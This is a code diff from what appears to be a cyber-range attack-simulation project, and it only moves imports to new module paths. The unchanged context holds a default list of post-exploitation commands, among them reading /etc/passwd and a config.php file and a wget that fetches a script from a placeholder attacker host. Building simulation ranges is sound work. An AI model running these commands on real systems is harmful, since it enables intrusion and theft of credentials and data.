@@ -28,9 +28,9 @@ from typing import Literal
 from pydantic import Field, field_validator
 
 from attack_scripts import _http
-from range.schema import Strict
-from range.techniques import StepContext, Technique, technique
-from range.traffic import TcpSession
+from range.core.schema import Strict
+from range.traffic.techniques import StepContext, Technique, technique
+from range.traffic.actions import TcpSession
 
 DEFAULT_COMMANDS = ["whoami", "id", "uname -a", "pwd", "ls -la", "cat /etc/passwd", "cat ../config.php", "ps aux",
                     "ss -tlnp", "wget http://{attacker}:8000/lse.sh -O /tmp/lse.sh", "ls -la /tmp"]
